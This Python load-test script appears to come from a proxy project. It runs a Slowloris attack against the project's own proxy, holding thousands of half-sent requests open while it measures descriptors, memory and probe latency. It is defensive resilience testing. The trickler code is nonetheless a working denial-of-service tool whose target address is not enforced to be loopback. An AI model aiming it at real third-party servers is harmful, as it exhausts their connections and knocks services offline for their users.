#!/usr/bin/env python3
"""Slowloris against a running scopegate (issue 12): N connections that each send one byte of
a request head and then a byte a second, never finishing it, while a probe sends ordinary
requests and the proxy's open descriptors and RSS are sampled from /proc.

    python3 benches/load/slowloris.py --pid PID --addr 127.0.0.1:8080 [--conns 5000] [--seconds 30]

Loopback only; bounded in connections and time; stops by itself. Prints one line per sample
and a summary: descriptors and RSS at the peak and at the end, the connections the proxy
closed, and the probe's latency percentiles.
"""
import argparse
import asyncio
import os
import statistics
import time


def proc_sample(pid):
    fds = len(os.listdir(f"/proc/{pid}/fd"))
    with open(f"/proc/{pid}/status") as f:
        rss = next(int(l.split()[1]) for l in f if l.startswith("VmRSS:"))
    return fds, rss


async def trickler(host, port, until, closed, opened):
    try:
        reader, writer = await asyncio.open_connection(host, port)
    except OSError:
        return
    opened.append(1)
    try:
        writer.write(b"G")
        await writer.drain()
        payload = b"ET /public/x HTTP/1.1\r\nx-slow: 1\r\n"
        i = 0
        while time.monotonic() < until:
            try:
                data = await asyncio.wait_for(reader.read(1), timeout=1.0)
                if not data:
                    closed.append(1)
                    return
            except asyncio.TimeoutError:
                pass
            writer.write(payload[i % len(payload) : i % len(payload) + 1])
            i += 1
            await writer.drain()
    except OSError:
        closed.append(1)
    finally:
        writer.close()


async def probe(host, port, path, until, latencies, failures):
    request = f"GET {path} HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n".encode()
    while time.monotonic() < until:
        started = time.monotonic()
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 5)
            writer.write(request)
            head = await asyncio.wait_for(reader.readline(), 5)
            writer.close()
            if not head.startswith(b"HTTP/1.1 "):
                failures.append("no answer")
            else:
                latencies.append((time.monotonic() - started) * 1e6)
        except (OSError, asyncio.TimeoutError) as e:
            failures.append(type(e).__name__)
        await asyncio.sleep(0.05)


async def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--pid", type=int, required=True)
    ap.add_argument("--addr", required=True)
    ap.add_argument("--conns", type=int, default=5000)
    ap.add_argument("--seconds", type=float, default=30)
    ap.add_argument("--probe-path", default="/public/probe")
    a = ap.parse_args()
    host, port = a.addr.rsplit(":", 1)
    port = int(port)
    start = time.monotonic()
    until = start + a.seconds
    closed, opened, latencies, failures = [], [], [], []
    base_fds, base_rss = proc_sample(a.pid)
    print(f"before: fds={base_fds} rss_kib={base_rss}")
    tasks = [asyncio.create_task(probe(host, port, a.probe_path, until, latencies, failures))]
    # Open the connections over the first 5 seconds.
    for i in range(a.conns):
        tasks.append(asyncio.create_task(trickler(host, port, until, closed, opened)))
        if i % 100 == 99:
            await asyncio.sleep(0.1)
    peak_fds, peak_rss = 0, 0
    while time.monotonic() < until:
        fds, rss = proc_sample(a.pid)
        peak_fds, peak_rss = max(peak_fds, fds), max(peak_rss, rss)
        print(
            f"t={time.monotonic() - start:5.1f}s fds={fds} rss_kib={rss} "
            f"opened={len(opened)} closed_by_proxy={len(closed)} probes_ok={len(latencies)} "
            f"probe_failures={len(failures)}"
        )
        await asyncio.sleep(2)
    end_fds, end_rss = proc_sample(a.pid)
    await asyncio.gather(*tasks, return_exceptions=True)
    lat = sorted(latencies)
    pct = lambda p: lat[min(len(lat) - 1, int(p / 100 * len(lat)))] if lat else float("nan")
    print(
        f"summary: conns={a.conns} opened={len(opened)} closed_by_proxy={len(closed)} "
        f"peak_fds={peak_fds} peak_rss_kib={peak_rss} end_fds={end_fds} end_rss_kib={end_rss} "
        f"probes_ok={len(lat)} probe_failures={len(failures)} "
        f"probe_p50_us={pct(50):.0f} probe_p99_us={pct(99):.0f} "
        f"probe_mean_us={statistics.mean(lat) if lat else float('nan'):.0f}"
    )


if __name__ == "__main__":
    asyncio.run(main())
